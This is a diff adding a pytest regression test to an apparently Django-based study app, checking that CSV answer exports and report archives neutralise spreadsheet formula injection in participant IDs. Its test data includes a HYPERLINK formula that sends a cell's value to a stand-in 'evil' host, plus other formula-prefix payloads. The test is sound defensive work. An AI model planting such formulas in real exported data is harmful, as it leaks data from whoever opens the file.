@@ -210,3 +210,39 @@ def test_the_participant_hot_path_stays_within_its_query_budget(
         with django_assert_max_num_queries(6):
             assert client.post(study.participant_path(), right_answer(trial)).status_code == 302
     assert Response.objects.count() == len(trials)
+
+
+HOSTILE_IDS = ['=HYPERLINK("http://evil/?"&A1)', "@SUM(1+1)", "+1+1", "-2+3", "'=already quoted"]
+
+
+@pytest.mark.parametrize("hostile", HOSTILE_IDS)
+def test_csv_exports_cannot_run_formulas_and_import_back_unchanged(material, staff_client, hostile):
+    from urllib.parse import quote
+
+    study = open_study(RATING_ONLY)
+    client = Client()
+    participant = take_to_trials(client, study, f"?pid={quote(hostile)}")
+    answer_all(client, participant)
+    csv_text = staff_client.get(f"/studies/{study.slug}/answers.csv").content.decode()
+    header, *lines = csv_text.splitlines()
+    cells = [cell for line in lines for cell in line.split(",")]
+    assert not any(cell.lstrip('"').startswith(("=", "+", "@")) for cell in cells), csv_text
+    assert not any(cell.startswith("-") and not cell[1:2].isdigit() for cell in cells)
+    column = header.split(",").index("external_id")
+    assert all(line.split(",")[column].strip('"').startswith("'") for line in lines)
+    # JSON keeps the raw value; the CSV reads back to it.
+    json_rows = staff_client.get(f"/studies/{study.slug}/answers.json").json()["answers"]
+    assert {row["external_id"] for row in json_rows} == {hostile}
+    from studies import exchange
+
+    assert {row["external_id"] for row in exchange.read_rows(csv_text)} == {hostile}
+    # A report's CSV tables are neutralised the same way.
+    import io
+    import zipfile
+
+    archive = zipfile.ZipFile(
+        io.BytesIO(staff_client.get(f"/studies/{study.slug}/report.zip").content)
+    )
+    for name in archive.namelist():
+        for line in archive.read(name).decode().splitlines():
+            assert not any(c.startswith(("=", "@", "+")) for c in line.split(","))
